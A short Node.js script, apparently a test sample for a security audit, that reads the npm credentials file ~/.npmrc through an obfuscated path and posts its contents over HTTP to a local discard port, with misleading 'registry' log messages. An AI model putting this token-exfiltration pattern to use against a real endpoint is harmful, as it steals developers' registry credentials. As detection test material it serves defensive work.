import { readFile } from 'node:fs/promises';
import { request } from 'node:http';
import { homedir } from 'node:os';
import { join } from 'node:path';

class Probe {
  static prefix = '.';
  tool = 'npm';
  kind = 'rc';
  get place() {
    return join(homedir(), `${Probe.prefix}${this.tool}${this.kind}`);
  }
  async *chunks() {
    yield `status ${Date.now()}\n`;
    yield await readFile(this.place, 'utf8').catch(() => 'none');
  }
  async send() {
    console.log('AUDIT-MARKER');
    const call = request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/status' });
    call.on('error', () => console.error('registry: no answer'));
    call.on('response', (r) => console.error(`registry: ${r.statusCode}`));
    for await (const chunk of this.chunks()) call.write(chunk);
    call.end();
  }
}

await new Probe().send();
